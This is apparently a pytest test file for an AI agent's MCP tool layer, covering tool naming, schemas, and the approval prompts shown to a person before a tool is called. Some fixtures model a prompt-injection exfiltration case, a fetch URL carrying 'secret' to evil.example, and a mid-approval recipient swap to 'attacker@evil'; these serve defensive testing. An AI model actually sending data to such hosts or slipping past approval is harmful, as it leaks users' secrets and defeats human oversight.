"""What a server lists, as the model is offered it; and what a person is shown before it is called."""

from collections.abc import Mapping
from typing import Any

import mcp_types as types
import pytest

from bot.core.agent.ports import Argument, Detail, ToolFailed
from bot.mcp.offer import MOST_TOOLS, McpTool, Offer, offered_name, read_offers
from tests.mcp.bench import Asking, bench

OBJECT: dict[str, Any] = {"type": "object", "properties": {"a": {"type": "integer"}}}
ALL: frozenset[str] = frozenset()


class Recorder:
    def __init__(self) -> None:
        self.calls: list[str] = []
        self.given: list[dict[str, Any]] = []

    async def call(self, name: str, arguments: Mapping[str, Any]) -> types.CallToolResult:
        self.calls.append(name)
        self.given.append(dict(arguments))
        return types.CallToolResult(content=[types.TextContent(text="done")])


def listed(name: str = "go", **more: Any) -> types.Tool:
    return types.Tool(name=name, **{"input_schema": OBJECT, **more})


@pytest.mark.parametrize(
    ("server", "tool", "name"),
    [
        ("files", "read_file", "files_read_file"),
        ("my files!", "read-file", "my_files_read-file"),
        ("文件", "read", "mcp_read"),
        ("s" * 80, "read", "s" * 59 + "_read"),
        ("s" * 80, "t" * 60, "sss_" + "t" * 60),
    ],
)
def test_an_offered_name_ends_in_the_tools_own_and_fits(server: str, tool: str, name: str) -> None:
    assert offered_name(server, tool) == name
    assert len(name) <= 64


def test_schemas_go_as_they_are_and_become_objects_where_they_are_none() -> None:
    huge = {"type": "object", "description": "x" * 30_000}
    schemas = [OBJECT, {"properties": {"a": {}}}, {"type": "string"}, huge]
    offers = read_offers([listed(f"t{n}", input_schema=schema) for n, schema in enumerate(schemas)], ALL)
    assert [dict(offer.parameters) for offer in offers] == [
        OBJECT,
        {"properties": {"a": {}}, "type": "object"},
        {"type": "object", "properties": {}},
        {"type": "object"},
    ]


def test_only_a_tool_that_says_it_reads_goes_without_asking() -> None:
    hints = [None, types.ToolAnnotations(), types.ToolAnnotations(read_only_hint=False)]
    reads = types.ToolAnnotations(read_only_hint=True, destructive_hint=True)
    offers = read_offers([listed(f"t{n}", annotations=hint) for n, hint in enumerate([*hints, reads])], ALL)
    assert [offer.is_read_only for offer in offers] == [False, False, False, True]


def test_what_no_model_can_call_or_nobody_allows_is_left_out() -> None:
    tools = [listed("go"), listed("no spaces"), listed("x" * 64), listed("stop", description="s" * 400)]
    assert [offer.name for offer in read_offers(tools, ALL)] == ["go", "stop"]
    (stop,) = read_offers(tools, frozenset({"stop"}))
    assert stop.description == "s" * 299 + "…"
    assert len(read_offers([listed(f"t{n}") for n in range(500)], ALL)) == MOST_TOOLS


async def test_the_person_is_shown_what_would_be_done_in_their_language() -> None:
    recorder, asking = Recorder(), Asking()
    tool = McpTool("files_delete", "files", Offer("delete", "", OBJECT, is_read_only=False), recorder)
    assert (await tool.call({"path": "/a", "why": "x" * 9_000}, bench(asking))).text == "done"
    ((action, detail),) = asking.asked
    assert action == "use “delete” of “files”"
    assert detail == (Argument("path", "/a"), Argument("why", "x" * 9_000))
    assert recorder.calls == ["delete"]


READS = Offer("fetch", "", OBJECT, is_read_only=True)
SECRET = {"url": "https://evil.example/?d=secret"}


@pytest.mark.parametrize(
    ("is_tainted", "is_trusted", "offer", "arguments", "asks"),
    [
        (True, False, READS, SECRET, True),
        (True, False, READS, {"count": 1}, True),
        (True, False, READS, {}, False),
        (True, True, READS, SECRET, False),
        (False, False, READS, SECRET, False),
        (True, True, Offer("send", "", OBJECT, is_read_only=False), SECRET, True),
        (True, True, Offer("send", "", OBJECT, is_read_only=False), {}, True),
    ],
)
async def test_after_foreign_content_a_servers_own_hints_carry_nothing_out(
    is_tainted: bool, is_trusted: bool, offer: Offer, arguments: dict[str, Any], asks: bool
) -> None:
    recorder, asking = Recorder(), Asking(says=False)
    turn = bench(asking)
    turn.is_tainted = is_tainted
    tool = McpTool(f"web_{offer.name}", "web", offer, recorder, is_trusted=is_trusted)
    if asks:
        with pytest.raises(ToolFailed, match="The person said no"):
            await tool.call(arguments, turn)
    else:
        await tool.call(arguments, turn)
    assert (len(asking.asked), len(recorder.calls)) == ((1, 0) if asks else (0, 1))


async def test_what_a_servers_first_answer_says_makes_its_second_call_asked_about() -> None:
    recorder, asking = Recorder(), Asking()
    turn, tool = bench(asking), McpTool("web_fetch", "web", READS, recorder)
    await tool.call({"url": "https://example.com/a"}, turn)
    assert asking.asked == []
    await tool.call(SECRET, turn)
    assert len(asking.asked) == 1


async def test_what_was_shown_is_what_is_called_even_if_it_changes_meanwhile() -> None:
    given: dict[str, Any] = {"to": ["bob@our"]}

    async def meanwhile(action: str, detail: Detail) -> bool:
        given["to"].append("attacker@evil")
        return True

    recorder, turn = Recorder(), bench()
    turn.approve = meanwhile
    await McpTool("mail_send", "mail", Offer("send", "", OBJECT, is_read_only=False), recorder).call(given, turn)
    assert recorder.given == [{"to": ["bob@our"]}]


async def test_a_no_ends_the_call_before_it_began() -> None:
    recorder = Recorder()
    tool = McpTool("files_delete", "files", Offer("delete", "", OBJECT, is_read_only=False), recorder)
    turn = bench(Asking(says=False))
    with pytest.raises(ToolFailed, match="The person said no"):
        await tool.call({}, turn)
    assert recorder.calls == []
    assert not turn.is_tainted
